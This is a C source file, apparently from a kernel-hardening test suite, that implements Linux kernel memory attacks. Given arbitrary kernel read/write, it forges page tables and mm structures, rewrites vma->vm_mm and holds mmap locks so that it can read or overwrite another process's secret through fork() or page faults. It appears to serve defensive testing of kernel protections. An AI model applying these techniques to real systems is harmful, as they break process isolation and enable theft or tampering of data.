// SPDX-License-Identifier: GPL-2.0-only
/*
 * Attacks by way of the tables that the kernel itself walks. It believes
 * vma->vm_mm, and every table that it finds below.
 */
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

#include "attack.h"
#include "list.h"
#include "objects.h"

#define FORGED_PART	0x33
#define FORGED_ENTRY_5	2	/* with five levels an entry covers 256 TiB */
#define LOCK_WORDS	3	/* of a struct rw_semaphore, before its list */
#define LOCKED		1

static volatile char *private_page(uint64_t addr)
{
	void *page = mmap((void *)addr, PAGE_SIZE, PROT_READ | PROT_WRITE,
			  MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE, -1, 0);

	return page == (void *)addr ? page : NULL;
}

/* Before the only list in it that ends where it begins: that of who waits. */
uint64_t find_mmap_lock(uint64_t mm)
{
	uint64_t words[MM_SIZE / sizeof(uint64_t)];
	size_t i;

	if (kread(mm, words, sizeof(words)))
		return 0;
	for (i = LOCK_WORDS; i < MM_SIZE / sizeof(*words); i++)
		if (words[i] == mm + i * sizeof(*words))
			return mm + (i - LOCK_WORDS) * sizeof(*words);
	return 0;
}

/* A copy of ours with another root, and held for writing. */
static uint64_t forge_mm(int index, uint64_t entry)
{
	struct kernel_page mm, root;
	char copy[PAGE_SIZE];
	struct task task;
	uint64_t pgd;

	if (ktask(0, &task) || !kernel_page(&mm) || !kernel_page(&root))
		return 0;
	kread(task.mm, copy, sizeof(copy));
	kwrite(mm.addr, copy, sizeof(copy));
	pgd = find_word(mm.addr, MM_SIZE, task.pgd);
	if (!pgd)
		return 0;
	kwrite64(root.addr + index * sizeof(entry), entry);
	kwrite64(pgd, root.addr);
	kwrite64(mm.addr + find_mmap_lock(task.mm) - task.mm, LOCKED);
	return mm.addr;
}

/* The child's tables are real ones: what is in them came from the forged. */
static enum outcome look_from_child(const volatile char *page)
{
	char text[64];

	snprintf(text, sizeof(text), "%s", (const char *)page);
	return judge_secret(text, 0);
}

static enum outcome look_from_fork(const volatile char *page, uint64_t vma, uint64_t mm,
				   uint64_t flags)
{
	uint64_t old_mm = kread64(vma + VMA_MM), old_flags = kread64(vma + VMA_FLAGS);
	int status = 0;
	pid_t pid;

	kwrite64(vma + VMA_FLAGS, old_flags | flags);
	if (kwrite64(vma + VMA_MM, mm))
		return lost("vma->vm_mm was not to be changed");
	pid = fork();
	if (!pid)
		_exit(look_from_child(page));
	kwrite64(vma + VMA_MM, old_mm);
	kwrite64(vma + VMA_FLAGS, old_flags);
	waitpid(pid, &status, 0);
	return WIFEXITED(status) ? WEXITSTATUS(status) :
	       lost("the child was killed by signal %d", WTERMSIG(status));
}

/* As if a driver had mapped it: nobody asks whose the page is. */
enum outcome fork_forged_tables(void)
{
	int index = top_level() == LEVEL_PGD ? FORGED_ENTRY_5 :
		    user_room(FORGED_PART) / top_level_size();
	volatile char *page = private_page(index * top_level_size());
	uint64_t phys = victim_phys(), vma, mm;

	vma = page ? find_vma(page) : 0;
	mm = forge_mm(index, forge_tables((phys & ~(PAGE_SIZE - 1)) | PTE_USER_RW));
	if (!vma || !mm)
		return broken("no vma, or no room for tables");
	return look_from_fork(page, vma, mm, VM_PFNMAP | VM_SHARED);
}

/* Our page at the address of the victim's secret; its vma is not empty. */
static uint64_t vma_at_secret(volatile char **page)
{
	*page = private_page(victim_secret());
	if (!*page)
		return 0;
	(*page)[0] = 1;
	madvise((void *)*page, PAGE_SIZE, MADV_DONTNEED);
	return find_vma(*page);
}

/* No table is forged: fork() copies another process's real ones. */
enum outcome fork_other_mm(void)
{
	volatile char *page;
	uint64_t vma = vma_at_secret(&page), lock;
	enum outcome outcome;
	struct task task;

	if (!vma || ktask(victim_pid(), &task))
		return broken("no vma at the victim's address");
	lock = find_mmap_lock(task.mm);
	kwrite64(lock, LOCKED);
	outcome = look_from_fork(page, vma, task.mm, 0);
	kwrite64(lock, 0);
	return outcome;
}

/*
 * A fault fills the table of the vma's mm: the victim's entry is cleared by our
 * madvise(), and filled with a page of ours that says something else.
 */
enum outcome fault_other_mm(void)
{
	char forged[SECRET_SIZE] = "what the attacker wrote";
	struct iovec from = { forged, sizeof(forged) }, to = { NULL, sizeof(forged) };
	volatile char *page;
	uint64_t vma = vma_at_secret(&page);
	struct task task;
	ssize_t n;

	if (!vma || ktask(victim_pid(), &task))
		return broken("no vma at the victim's address");
	to.iov_base = (void *)page;
	if (kwrite64(vma + VMA_MM, task.mm))
		return lost("vma->vm_mm was not to be changed");
	madvise((void *)page, PAGE_SIZE, MADV_DONTNEED);
	n = process_vm_writev(getpid(), &from, 1, &to, 1, 0);
	ktask(0, &task);
	kwrite64(vma + VMA_MM, task.mm);
	return judge_forged(forged, n);
}
